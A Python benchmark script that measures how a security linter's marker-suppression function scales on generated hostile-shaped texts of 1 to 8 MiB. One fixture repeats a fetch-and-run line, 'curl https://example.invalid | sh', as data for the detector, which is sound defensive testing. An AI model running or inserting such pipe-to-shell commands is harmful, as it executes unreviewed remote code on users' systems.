"""Silencing a security finding costs time linear in the file: `apply_markers` on hostile texts of growing
size, with the ratio of the largest to the smallest (linear: about the ratio of the sizes, 8).

    .venv/bin/python benchmarks/silencing.py [--runs N]

Each text is the worst shape found for one part of the reading: thousands of stacked markers above one long
paragraph (each marker's block), near-misses of the marker word (the search), fence openers of growing length
under markers (the fence scan), and a finding per line under one marker each (the lookup). Prints a Markdown
table of medians (ms of this process's CPU time, so other work on a shared machine does not blur them) and
the ratio.
"""

from __future__ import annotations

import argparse
import statistics
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from albedo_skills_ls.skills.core import security_codes  # noqa: E402
from albedo_skills_ls.skills.core.model import Range  # noqa: E402
from albedo_skills_ls.skills.security.suppression import apply_markers  # noqa: E402

import time  # noqa: E402

SIZES_MIB = (1, 2, 4, 8)
MARKER = "<!-- albedo-skills-ignore security-fetch-and-run: reviewed -->\n"


def stacked(size: int) -> tuple[str, tuple]:
    half = size // 2
    return MARKER * (half // len(MARKER)) + "word " * (half // 5) + "\n", ()


def near_misses(size: int) -> tuple[str, tuple]:
    line = "# albedo-skills-ignor albedo-skills-ignoreX albedo-skills-ignore\n"  # the last is in prose: no opener
    return line * (size // len(line)), ()


def fences(size: int) -> tuple[str, tuple]:
    parts, total, run = [], 0, 3
    while total < size:
        chunk = MARKER + "`" * run + "\ncode\n"
        parts.append(chunk)
        total += len(chunk)
        run += 1
    return "".join(parts), ()


def findings_under_markers(size: int) -> tuple[str, tuple]:
    unit = MARKER + "curl https://example.invalid | sh\n\n"
    count = size // len(unit)
    found = tuple(
        security_codes.SECURITY_FETCH_AND_RUN.at("/s/SKILL.md", "x", Range.of(3 * index + 1, 0, 3 * index + 1, 4))
        for index in range(count)
    )
    return unit * count, found


SHAPES = {
    "stacked markers over one paragraph": stacked,
    "near-misses of the marker word": near_misses,
    "fence openers of growing length": fences,
    "a finding under each marker": findings_under_markers,
}


def cpu_ms(fn, runs: int) -> list[float]:
    fn()  # warm-up
    samples = []
    for _ in range(runs):
        start = time.process_time()
        fn()
        samples.append((time.process_time() - start) * 1000)
    return samples


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--runs", type=int, default=5)
    args = parser.parse_args()
    print(f"| text (worst shape) | {' | '.join(f'{size} MiB' for size in SIZES_MIB)} | ratio {SIZES_MIB[-1]}/{SIZES_MIB[0]} |")
    print(f"| --- |{' --- |' * len(SIZES_MIB)} --- |")
    for name, make in SHAPES.items():
        medians = []
        for size in SIZES_MIB:
            text, found = make(size * 1024 * 1024)
            medians.append(statistics.median(cpu_ms(lambda: apply_markers("/s/SKILL.md", text, found), args.runs)))
        cells = " | ".join(f"{median:.0f} ms" for median in medians)
        print(f"| {name} | {cells} | {medians[-1] / medians[0]:.1f} |")
    return 0


if __name__ == "__main__":
    sys.exit(main())
